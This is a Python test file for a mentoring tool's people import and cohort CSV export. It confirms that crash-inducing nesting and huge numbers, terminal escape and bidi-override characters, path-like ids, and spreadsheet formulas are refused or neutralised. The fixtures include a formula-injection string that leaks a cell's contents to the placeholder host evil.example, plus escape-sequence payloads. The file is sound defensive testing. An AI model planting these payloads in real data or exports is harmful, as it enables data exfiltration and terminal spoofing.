"""Hostile import files are refused with a clear error, never a traceback, and change nothing.

Issue #8, findings 6, 9 and 10: input crafted to crash the reader, to smuggle terminal
escapes, bidirectional overrides or path-like ids into the store, or formulas into a
coordinator's spreadsheet.
"""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from companion.cli import app
from companion.exports import safe_cell
from companion.imports import ImportFailed, import_people
from companion.matching import Matcher
from companion.matching.export import write_cohort
from companion.settings import ImportSettings
from companion.workspace import Workspace
from tests.conftest import BASE_ROWS, csv_text, newcomer, write_csv

# -- helpers ---------------------------------------------------------------------------


def json_people(**changes: dict) -> list[dict]:
    """BASE_ROWS as JSON records (numbers as numbers, lists as lists), some fields changed."""
    people = []
    for row in copy.deepcopy(BASE_ROWS):
        person: dict = {k: v for k, v in row.items()}
        for key in ("seniority", "capacity"):
            if key in person:
                person[key] = int(person[key])
        for key in ("skills_offered", "skills_wanted"):
            if key in person:
                person[key] = person[key].split(";")
        person.update(changes.get(person["id"], {}))
        people.append(person)
    return people


def import_refused(
    workspace: Workspace, path: Path, settings: ImportSettings | None = None, **kwargs
) -> ImportFailed:
    """Import `path`, which must be refused, and show the store did not change."""
    before = (workspace.store.version(), workspace.store.people())
    with pytest.raises(ImportFailed) as failure:
        import_people(path, workspace.store, workspace.embedder, settings=settings, **kwargs)
    assert (workspace.store.version(), workspace.store.people()) == before
    return failure.value


def named(failure: ImportFailed, line: int | None, field: str | None) -> str:
    """The message of the problem at (line, field), which must exist."""
    found = [p.message for p in failure.problems if (p.line, p.field) == (line, field)]
    assert found, failure.problems
    return found[0]


@pytest.fixture
def stored(workspace: Workspace, tmp_path: Path) -> Workspace:
    """A store that already holds the base people: a refused import must keep them."""
    import_people(write_csv(tmp_path / "base.csv", BASE_ROWS), workspace.store, workspace.embedder)
    return workspace


# -- inputs that crashed the reader ---------------------------------------------------

DEEP = 100_000
CRASHERS = [
    pytest.param("p.json", "[" * DEEP + "]" * DEEP, 1, None, "nested deeper than", id="deep-json"),
    pytest.param(
        "p.json",
        json.dumps(json_people())[:-1] + ',\n{"skills_offered": ' + "[" * DEEP + "]" * DEEP + "}]",
        2,
        None,
        "nested deeper than 10 levels",
        id="deep-json-in-a-field",
    ),
    pytest.param(
        "p.jsonl",
        json.dumps(json_people()[0]) + "\n" + "{" + '"a":{' * DEEP + "1" + "}" * DEEP + "\n",
        2,
        None,
        "nested deeper than",
        id="deep-jsonl",
    ),
    pytest.param(
        "p.json",
        json.dumps(json_people(e1={"seniority": 0})).replace(
            '"seniority": 0', '"seniority": ' + "7" * 5000
        ),
        1,
        "seniority",
        "a number with 5,000 digits; at most 20 are allowed",
        id="json-int-over-4300-digits",
    ),
    pytest.param(
        "p.jsonl",
        "\n".join(json.dumps(p) for p in json_people(m1={"capacity": 0})).replace(
            '"capacity": 0', '"capacity": -' + "1" * 4301
        ),
        1,
        "capacity",
        "a number with 4,301 digits",
        id="jsonl-negative-int-over-4300-digits",
    ),
    pytest.param(
        "p.json",
        json.dumps(json_people(e2={"skills_wanted": [1]})).replace("[1]", "[" + "9" * 30 + "]"),
        1,
        "skills_wanted",
        "a number with 30 digits",
        id="json-long-int-in-a-list",
    ),
    pytest.param(
        "p.csv",
        csv_text([*BASE_ROWS[:2], {**BASE_ROWS[2], "seniority": "9" * 5000}]),
        4,
        "seniority",
        "a number with 5,000 digits",
        id="csv-int-over-4300-digits",
    ),
    pytest.param(
        "p.json",
        json.dumps(json_people(e1={"__cells__": 5})),
        1,
        "__cells__",
        "unknown field; expected some of: id, name",
        id="cells-key-in-json",
    ),
    pytest.param(
        "p.jsonl",
        "\n".join(json.dumps(p) for p in json_people(e2={"__cells__": [9, 9, 9]})),
        3,
        "__cells__",
        "unknown field",
        id="cells-key-in-jsonl",
    ),
]


@pytest.mark.parametrize(("name", "text", "line", "field", "why"), CRASHERS)
def test_input_that_crashed_the_reader_is_refused_by_line_and_field(
    stored: Workspace, tmp_path: Path, name: str, text: str, line: int, field: str | None, why: str
) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    failure = import_refused(stored, path)
    assert why in named(failure, line, field)
    assert str(failure).startswith(name)


def test_an_endless_file_is_refused_at_the_size_limit(stored: Workspace) -> None:
    failure = import_refused(stored, Path("/dev/zero"), ImportSettings(max_bytes=1000), fmt="csv")
    assert "larger than the import limit of 1,000 bytes" in str(failure)
    assert "MENTORKIT_IMPORTS__MAX_BYTES" in str(failure)


@pytest.mark.parametrize(
    ("size", "refused"),
    [pytest.param(0, False, id="at-the-limit"), pytest.param(1, True, id="one-byte-over")],
)
def test_the_size_limit_is_exact(
    stored: Workspace, tmp_path: Path, size: int, refused: bool
) -> None:
    text = csv_text(BASE_ROWS)
    path = tmp_path / "p.csv"
    path.write_text(text + " " * size, encoding="utf-8")
    limit = ImportSettings(max_bytes=len(text.encode()))
    if refused:
        assert "larger than the import limit" in str(import_refused(stored, path, limit))
    else:
        report = import_people(path, stored.store, stored.embedder, settings=limit)
        assert sorted(report.unchanged) == ["e1", "e2", "m1"]


def test_json_nested_within_the_limit_is_read(stored: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "p.json"
    path.write_text(json.dumps(json_people()), encoding="utf-8")
    report = import_people(
        path, stored.store, stored.embedder, settings=ImportSettings(max_depth=3)
    )
    assert report.accepted == 3
    with pytest.raises(ImportFailed, match="nested deeper than 2 levels"):
        import_people(path, stored.store, stored.embedder, settings=ImportSettings(max_depth=2))


def test_brackets_inside_strings_do_not_count_as_nesting(stored: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "p.json"
    path.write_text(json.dumps(json_people(e1={"goals": "[[[[{{{{" * 50 + '"\\'})), "utf-8")
    assert import_people(path, stored.store, stored.embedder).accepted == 3


def test_a_key_given_twice_is_refused(stored: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "p.jsonl"
    record = json.dumps(json_people()[1])
    path.write_text(record[:-1] + ', "name": "Someone Else"}\n', encoding="utf-8")
    failure = import_refused(stored, path)
    assert named(failure, 1, "name") == "key appears more than once in this object"


@pytest.mark.parametrize(
    ("content", "line", "why"),
    [
        pytest.param(
            csv_text(BASE_ROWS).encode("utf-16"), 1, "looks like UTF-16", id="utf-16-with-bom"
        ),
        pytest.param(
            csv_text(BASE_ROWS).encode("utf-16-le"), 1, "looks like UTF-16", id="utf-16-no-bom"
        ),
        pytest.param(csv_text(BASE_ROWS).encode("utf-32"), 1, "UTF-32", id="utf-32"),
        pytest.param(b"PK\x03\x04" + bytes(60), 1, "or binary; save it as UTF-8", id="zip-file"),
        pytest.param(
            (csv_text(BASE_ROWS) + 'x1,"Xu Li').encode(),
            5,
            "unreadable CSV: unexpected end of data",
            id="csv-cut-inside-a-quote",
        ),
        pytest.param(
            (csv_text(BASE_ROWS) + '"x1"y,Xu Li\n').encode(),
            5,
            "unreadable CSV: ',' expected after '\"'",
            id="csv-text-after-a-closing-quote",
        ),
    ],
)
def test_wrong_encodings_binary_and_broken_quotes_are_refused_by_line(
    stored: Workspace, tmp_path: Path, content: bytes, line: int, why: str
) -> None:
    path = tmp_path / "p.csv"
    path.write_bytes(content)
    assert why in named(import_refused(stored, path), line, None)


def test_jsonl_lines_end_at_newline_only(workspace: Workspace, tmp_path: Path) -> None:
    """U+2028 (LINE SEPARATOR) is text inside a JSON string, not a line end."""
    people = json_people(e1={"goals": "Speak up.\u2028Lead a project."})
    path = tmp_path / "p.jsonl"
    path.write_text("\n".join(json.dumps(p, ensure_ascii=False) for p in people) + "\n", "utf-8")
    assert import_people(path, workspace.store, workspace.embedder).written == 3


# -- hostile text --------------------------------------------------------------------

HOSTILE_TEXT = [
    pytest.param("Ada \x1b]0;pwned\x07", "U+001B", id="osc-retitle"),
    pytest.param("\x1b[2JAda", "U+001B", id="csi-clear-screen"),
    pytest.param("Ada\x00Okafor", "U+0000", id="nul"),
    pytest.param("Ada\x08\x08\x08Bob", "U+0008", id="backspace"),
    pytest.param("Ada\x7f", "U+007F", id="del"),
    pytest.param("Ada\x9b2J", "U+009B", id="c1-csi"),
    pytest.param("Ada\u202eexe.txt", "U+202E (RIGHT-TO-LEFT OVERRIDE)", id="bidi-override"),
    pytest.param("Ada\u2066x\u2069", "U+2066 (LEFT-TO-RIGHT ISOLATE)", id="bidi-isolate"),
    pytest.param("Ada\u200f", "U+200F (RIGHT-TO-LEFT MARK)", id="bidi-mark"),
    pytest.param("Ada\rEve", "U+000D", id="lone-carriage-return"),
]
TEXT_FIELDS = [
    pytest.param(("m1", "name"), id="name"),
    pytest.param(("m1", "title"), id="title"),
    pytest.param(("e1", "department"), id="department"),
    pytest.param(("e1", "team"), id="team"),
    pytest.param(("e2", "location"), id="location"),
    pytest.param(("e2", "track"), id="track"),
    pytest.param(("m1", "skills_offered"), id="skills-offered"),
    pytest.param(("e1", "skills_wanted"), id="skills-wanted"),
    pytest.param(("e2", "languages"), id="languages"),
    pytest.param(("e1", "goals"), id="goals"),
    pytest.param(("m1", "bio"), id="bio"),
]
LINE_OF = {"m1": 2, "e1": 3, "e2": 4}


@pytest.mark.parametrize("where", TEXT_FIELDS)
@pytest.mark.parametrize(("text", "char"), HOSTILE_TEXT)
def test_control_and_bidi_characters_are_refused_in_every_text_field(
    workspace: Workspace, tmp_path: Path, where: tuple[str, str], text: str, char: str
) -> None:
    person_id, field = where
    rows = copy.deepcopy(BASE_ROWS)
    next(r for r in rows if r["id"] == person_id)[field] = text
    columns = list(dict.fromkeys(key for row in rows for key in row))
    path = tmp_path / "p.csv"
    with path.open("w", newline="", encoding="utf-8") as f:  # quoted: a bare CR ends a line
        writer = csv.DictWriter(f, columns, quoting=csv.QUOTE_ALL, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    failure = import_refused(workspace, path)
    message = named(failure, LINE_OF[person_id], field)
    assert char in message and "refused, not stripped" in message
    assert "\x1b" not in str(failure) and "\u202e" not in str(failure)


def test_a_lone_surrogate_from_json_is_refused(workspace: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "p.json"
    path.write_text(json.dumps(json_people()).replace("Ada Okafor", "Ada \\ud800"), "utf-8")
    message = named(import_refused(workspace, path), 1, "name")
    assert message.startswith("Input should be a valid string, unable to parse raw data")


@pytest.mark.parametrize(
    ("field", "text", "accepted"),
    [
        pytest.param("bio", "Led teams.\nMentored 12 people.\tAsk me.", True, id="bio-lines"),
        pytest.param("goals", "Speak up.\r\nLead a project.", True, id="goals-crlf"),
        pytest.param("name", "Ada\nOkafor", False, id="name-newline"),
        pytest.param("title", "Head\tof Data", False, id="title-tab"),
    ],
)
def test_only_free_text_may_hold_tabs_and_line_breaks(
    workspace: Workspace, tmp_path: Path, field: str, text: str, accepted: bool
) -> None:
    rows = [dict(BASE_ROWS[0], **{field: text})]
    path = write_csv(tmp_path / "p.csv", rows)
    if accepted:
        import_people(path, workspace.store, workspace.embedder)
        assert getattr(workspace.store.get("m1"), field) == text
    else:
        assert "refused, not stripped" in named(import_refused(workspace, path), 2, field)


def test_hostile_column_and_key_names_are_printed_escaped(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "p.csv", [{**r, "\x1b]0;pwned\x07": "x"} for r in BASE_ROWS])
    result = CliRunner().invoke(app, ["import", str(path)])
    assert result.exit_code == 1
    assert "p.csv, line 1, field '\\x1b]0;pwned\\x07': unknown column" in result.stderr
    assert "\x1b" not in result.output + result.stderr


# -- ids and emails ------------------------------------------------------------------------

BAD_IDS = [
    pytest.param({"m1": {"id": "."}}, 2, "id", "may not start with '.'", id="dot"),
    pytest.param({"m1": {"id": ".."}}, 2, "id", "'.' and '..' name folders", id="dot-dot"),
    pytest.param({"e1": {"id": "-rm"}}, 3, "id", "command-line option", id="leading-dash"),
    pytest.param({"e1": {"id": "--help"}}, 3, "id", "command-line option", id="option"),
    pytest.param(
        {"e2": {"manager_id": "-m1"}}, 4, "manager_id", "command-line option", id="manager-dash"
    ),
    pytest.param({"e2": {"exclude": "e1;.."}}, 4, "exclude", "name folders", id="exclude-dots"),
]


@pytest.mark.parametrize(("changes", "line", "field", "why"), BAD_IDS)
def test_path_and_option_like_ids_are_refused(
    workspace: Workspace, tmp_path: Path, changes: dict, line: int, field: str, why: str
) -> None:
    rows = copy.deepcopy(BASE_ROWS)
    for row in rows:
        row.update(changes.get(row["id"], {}))
    failure = import_refused(workspace, write_csv(tmp_path / "p.csv", rows))
    assert why in named(failure, line, field)


def test_ids_differing_only_by_case_in_one_file_name_both_rows(
    workspace: Workspace, tmp_path: Path
) -> None:
    rows = [*copy.deepcopy(BASE_ROWS), newcomer(id="E1")]
    failure = import_refused(workspace, write_csv(tmp_path / "p.csv", rows))
    assert named(failure, 3, "id") == (
        "'e1' also appears on line 5 as 'E1' (ids are compared ignoring case)"
    )
    assert named(failure, 5, "id") == (
        "'E1' also appears on line 3 as 'e1' (ids are compared ignoring case)"
    )


def test_an_id_differing_only_by_case_from_a_stored_one_is_refused(
    stored: Workspace, tmp_path: Path
) -> None:
    failure = import_refused(stored, write_csv(tmp_path / "p.csv", [newcomer(id="M1")]))
    assert named(failure, 2, "id").startswith("'M1' differs only by case from 'm1', already in")


LONG_DOMAIN = ".".join(["b" * 60] * 4)  # 243 characters, labels of 60


@pytest.mark.parametrize(
    ("email", "why"),
    [
        pytest.param("a" * 64 + "@example.com", None, id="local-part-64"),
        pytest.param(
            "a" * 65 + "@example.com",
            "the part before '@' has 65 characters; RFC 5321 allows at most 64",
            id="local-part-65",
        ),
        pytest.param("a" * 10 + "@" + LONG_DOMAIN, None, id="address-254"),
        pytest.param(
            "a" * 11 + "@" + LONG_DOMAIN,
            "the address has 255 characters; RFC 5321 allows at most 254",
            id="address-255",
        ),
    ],
)
def test_emails_keep_to_rfc_5321_lengths(
    workspace: Workspace, tmp_path: Path, email: str, why: str | None
) -> None:
    path = write_csv(tmp_path / "p.csv", [newcomer(email=email)])
    if why is None:
        assert import_people(path, workspace.store, workspace.embedder).inserted == ["n1"]
    else:
        assert why in named(import_refused(workspace, path), 2, "email")


# -- CSV export ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")', id="equals"),
        pytest.param("+1+1", "'+1+1", id="plus"),
        pytest.param("-2+3", "'-2+3", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1", "'\r=1", id="carriage-return"),
        pytest.param("a=1", "a=1", id="equals-inside"),
        pytest.param(-0.5, -0.5, id="negative-number"),
        pytest.param("", "", id="empty"),
    ],
)
def test_safe_cell_neutralises_formulas(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_the_cohort_csv_neutralises_formulas_from_people(
    workspace: Workspace, tmp_path: Path
) -> None:
    rows = copy.deepcopy(BASE_ROWS)
    rows[1]["skills_wanted"] = "@SUM(1+1)*cmd"
    rows[2]["skills_wanted"] = "-2+3;=1+1"
    rows.append(  # a mentor outside both mentees' reporting line
        newcomer(
            id="x1",
            role="mentor",
            seniority="5",
            skills_offered='=HYPERLINK("http://evil.example/?"&A1,"click");+sql',
        )
    )
    import_people(write_csv(tmp_path / "p.csv", rows), workspace.store, workspace.embedder)
    out = tmp_path / "cohort.csv"
    write_cohort(Matcher(workspace).cohort(), out)
    with out.open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.DictReader(f) for cell in row.values()]
    assert any(c.startswith("'@SUM(1+1)*cmd") for c in cells)
    assert any(c.startswith(("'-2+3", "'=1+1")) for c in cells)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- the fuzz eval, a small slice -------------------------------------------------------------


def test_fuzz_import_slice_has_no_tracebacks_and_no_store_changes(tmp_path: Path) -> None:
    from evals import fuzz_import

    out = tmp_path / "fuzz_import.json"
    result = fuzz_import.main(["--per-kind", "20", "--seed", "3", "--out", str(out)])
    written = json.loads(out.read_text())
    assert written["totals"]["tracebacks"] == 0, written["tracebacks"][:3]
    assert written["totals"]["store_changes"] == 0
    assert written["totals"]["clear_errors"] == written["totals"]["cases"]
    assert len(result["kinds"]) >= 15
    assert all(kind["cases"] == 20 for kind in result["kinds"].values())


def test_what_a_new_user_found_is_refused_clearly(stored: Workspace, tmp_path: Path) -> None:
    """From the new-user trial: a 20,000-skill row stalled the import; JSON `true` passed as
    seniority 1; a bad byte after a BOM was reported as the byte three places earlier."""
    many = tmp_path / "many.csv"
    write_csv(many, [newcomer(skills_wanted=";".join(f"s{i}" for i in range(20_000)))])
    assert "at most 50 items" in named(import_refused(stored, many), 2, "skills_wanted")
    boolean = tmp_path / "bool.json"
    boolean.write_text(json.dumps([{**newcomer(), "seniority": True}]), encoding="utf-8")
    assert "not true or false" in named(import_refused(stored, boolean), 1, "seniority")
    bom = tmp_path / "bom.csv"
    bom.write_bytes(
        b"\xef\xbb\xbf" + csv_text([newcomer(name="Q\udcff")]).encode("utf-8", "surrogateescape")
    )
    assert "byte 0xff" in named(import_refused(stored, bom), 2, None)
